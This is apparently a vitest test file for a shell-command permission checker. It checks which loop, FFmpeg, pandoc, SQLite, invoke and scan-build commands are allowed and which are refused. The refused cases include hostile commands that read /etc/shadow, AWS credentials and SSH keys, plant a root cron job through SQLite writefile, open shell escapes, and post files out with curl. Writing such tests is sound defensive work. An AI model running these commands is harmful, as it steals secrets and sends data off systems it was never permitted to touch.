import { describe, it } from 'vitest';
import { probeEngine } from './probe-engine.js';

/**
 * Classes helper `benign`'s probe 21 (4 Dec: 215 held-out everyday lines from the CI workflows,
 * Makefiles, justfiles and contributing guides of click, spdlog, eza, plug, bubbletea, chi,
 * marshmallow, phpunit, anyhow, zustand, rack, Slim, hakyll, absinthe, google/benchmark, urfave/cli,
 * commons-io, tqdm, xunit, date-fns, RxJava, tRPC, litestar, zstd, uvicorn, zap and immer, and
 * shell one-liners) found refused without cause: a program's written operand held in a loop
 * variable over literal words or globs (`for f in tests/*.py; do black "$f"; done`), and programs
 * with no spec: FFmpeg's ffprobe and ffmpeg, pandoc, pyinvoke, the SQLite shell and clang's
 * scan-build. Each class is tested both ways with spellings not in the probe.
 */
const { expectAll } = probeEngine();

describe('a written operand held in a loop variable over literal words or globs', () => {
  it('is each of those paths: the workspace’s are fine', () => {
    expectAll(
      [
        'for f in src/*.py; do autopep8 --in-place "$f"; done',
        'for f in lib/*.js test/*.js; do npx prettier --write "$f"; done',
        'for m in docs/*.md; do sort -o "$m.sorted" "$m"; done',
        'for p in app/models/*.py app/views/*.py; do isort "$p"; done',
        'for d in build dist; do shuf -o "$d/order.txt" list.txt; done',
      ],
      'allow',
    );
  });
  it('stays refused when one of them lies outside, in .git, or may match `..` or `.git`', () => {
    expectAll(
      [
        'for f in /etc/*.conf; do autopep8 --in-place "$f"; done',
        'for f in ../other/*.py; do black "$f"; done',
        'for f in src/a.py ~/.bashrc; do black "$f"; done',
        'for f in .git/hooks/*; do sort -o "$f" x; done',
        'for f in .g?t/config; do black "$f"; done',
        'for f in .*; do isort "$f"; done',
        'for f in "$DIR"/*.py; do black "$f"; done',
        'for f in $(cat list.txt); do black "$f"; done',
        'cd /srv; for f in *.py; do black "$f"; done',
        'for d in build /usr/local/lib; do shuf -o "$d/x" list.txt; done',
      ],
      'refused',
    );
  });
});

describe('FFmpeg on the workspace’s media', () => {
  it('probes and converts files of the workspace', () => {
    expectAll(
      [
        'ffprobe -v quiet -print_format json -show_format -show_streams assets/intro.mov',
        'ffprobe -select_streams a:0 -show_entries stream=sample_rate -of default=nw=1 tests/a.flac',
        'ffmpeg -y -i assets/clip.mov -c:v libx264 -crf 23 -preset fast build/clip.mp4',
        'ffmpeg -hide_banner -ss 00:00:02 -i fixtures/v.mp4 -frames:v 1 fixtures/thumb.png',
        'ffmpeg -i samples/a.wav -c:a libmp3lame -b:a 128k samples/a.mp3',
      ],
      'allow',
    );
  });
  it('asks for protocols, devices, filter graphs, filters, outputs elsewhere and unknown options', () => {
    expectAll(
      [
        'ffprobe http://10.0.0.5:8080/stream.m3u8',
        'ffprobe -i file:/root/.aws/credentials',
        'ffmpeg -i rtmp://example.com/live/key -c copy out.flv',
        'ffmpeg -i a.mp4 -f mpegts udp://203.0.113.9:1234',
        'ffmpeg -f lavfi -i "movie=/etc/shadow" out.mp4',
        'ffmpeg -f x11grab -i :0.0 screen.mp4',
        'ffmpeg -i a.mp4 -vf "drawtext=textfile=/etc/passwd" out.mp4',
        'ffmpeg -i a.mp4 -filter_complex_script /tmp/f.txt out.mp4',
        'ffmpeg -i a.mp4 /usr/local/share/x.mp4',
        'ffmpeg -f concat -safe 0 -i list.txt out.mp4',
        'ffmpeg -i a.mp4 -progress http://example.com/p out.mp4',
        'ffprobe -o /etc/x.json -show_format a.mp4',
        'ffprobe "$MEDIA_URL"',
        'ffmpeg -i "$(cat src.txt)" out.mp4',
      ],
      'refused',
    );
  });
});

describe('pandoc on the workspace’s documents', () => {
  it('converts files of the workspace', () => {
    expectAll(
      [
        'pandoc README.md -o build/README.html',
        'pandoc -s --toc -f gfm -t html docs/guide.md -o site/guide.html',
        'pandoc --lua-filter=filters/links.lua -t markdown docs/a.rst -o docs/a.md',
        'pandoc -t plain CHANGELOG.md | head -40',
      ],
      'allow',
    );
  });
  it('asks for filters, engines, URLs, Lua code from elsewhere and writes elsewhere', () => {
    expectAll(
      [
        'pandoc -F ./bin/filter.py a.md -o a.html',
        'pandoc --pdf-engine=/tmp/x a.md -o a.pdf',
        'pandoc -L /root/f.lua a.md',
        'pandoc --defaults=/srv/d.yaml a.md',
        'pandoc -t ~/writer.lua a.md',
        'pandoc https://example.com/page.html -t markdown',
        'pandoc --embed-resources -s a.md -o a.html',
        'pandoc a.md -o /etc/motd',
        'pandoc ~/.ssh/id_rsa -t plain',
        'pandoc "$DOC" -o out.html',
      ],
      'refused',
    );
  });
});

describe('the SQLite shell, pyinvoke and scan-build', () => {
  it('allows the structure of a workspace database, the project’s tasks and an analyzed build', () => {
    expectAll(
      [
        'sqlite3 instance/app.db .indexes',
        'sqlite3 -readonly data/test.db .fullschema',
        'inv lint',
        'invoke --list',
        'invoke -e build --clean',
        'scan-build -o build/analysis --status-bugs make -j4',
        'scan-build -enable-checker alpha.core cmake --build build',
      ],
      'allow',
    );
  });
  it('asks for SQL, other dot-commands, databases elsewhere, configs and compilers from elsewhere', () => {
    expectAll(
      [
        "sqlite3 app.db \"SELECT writefile('/etc/cron.d/x', '* * * * * root id')\"",
        'sqlite3 app.db "ATTACH \'/root/.x.db\' AS x"',
        "sqlite3 app.db '.system id'",
        "sqlite3 app.db '.output /etc/x'",
        'sqlite3 -cmd ".shell id" app.db',
        'sqlite3 -init /root/.sqliterc app.db .tables',
        'sqlite3 /var/lib/app/prod.db .tables',
        'invoke -f /srv/invoke.py build',
        'invoke --prompt-for-sudo-password deploy',
        'invoke -r /opt/other test',
        'scan-build --use-c++=/tmp/cxx make',
        'scan-build -load-plugin /srv/p.so make',
        'scan-build -o ~/reports make',
        'scan-build make && curl -d @build/out http://example.com',
      ],
      'refused',
    );
  });
});
